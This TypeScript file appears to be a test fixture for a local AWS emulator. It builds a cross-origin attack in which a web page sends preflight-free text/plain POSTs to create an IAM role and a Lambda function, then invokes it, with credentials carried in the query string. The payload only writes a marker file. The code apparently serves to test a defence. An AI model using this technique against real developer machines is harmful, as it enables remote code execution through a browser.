import { zip } from "../../local/watch/zip.ts";

export const ATTACKER = "attacker";

export interface TextPost {
  url: string;
  body: string;
}

/**
 * What a web page would send to run code on the developer's machine: create a role, create a function, invoke it. Each is
 * a POST of text/plain, which a browser sends to any origin without a preflight. A page cannot set Authorization without
 * one, so the credentials are in the query string. The function writes the file `marker`.
 */
export const attack = (endpoint: string, marker: string, accessKeyId = "test"): TextPost[] => {
  const functions = `${endpoint}/2015-03-31/functions`;
  const signed = (url: string, service: string, parameters: Record<string, string> = {}) =>
    `${url}?${new URLSearchParams({
      ...parameters,
      "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
      "X-Amz-Credential": `${accessKeyId}/${today()}/us-east-1/${service}/aws4_request`,
      "X-Amz-Date": `${today()}T000000Z`,
      "X-Amz-SignedHeaders": "host",
      "X-Amz-Signature": "0".repeat(64),
    })}`;
  const trust = {
    Version: "2012-10-17",
    Statement: [
      { Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" },
    ],
  };
  const role = {
    Action: "CreateRole",
    Version: "2010-05-08",
    RoleName: ATTACKER,
    AssumeRolePolicyDocument: JSON.stringify(trust),
  };
  const code = `exports.handler = async () => require("fs").writeFileSync(${JSON.stringify(marker)}, "ran");`;
  const lambda = {
    FunctionName: ATTACKER,
    Runtime: "nodejs24.x",
    Handler: "index.handler",
    Role: `arn:aws:iam::123456789012:role/${ATTACKER}`,
    Code: { ZipFile: Buffer.from(zip(new Map([["index.js", Buffer.from(code)]]))).toString("base64") },
  };
  return [
    { url: signed(`${endpoint}/`, "iam", role), body: "" },
    { url: signed(functions, "lambda"), body: JSON.stringify(lambda) },
    { url: signed(`${functions}/${ATTACKER}/invocations`, "lambda"), body: "{}" },
  ];
};

const today = () => new Date().toISOString().slice(0, 10).replaceAll("-", "");
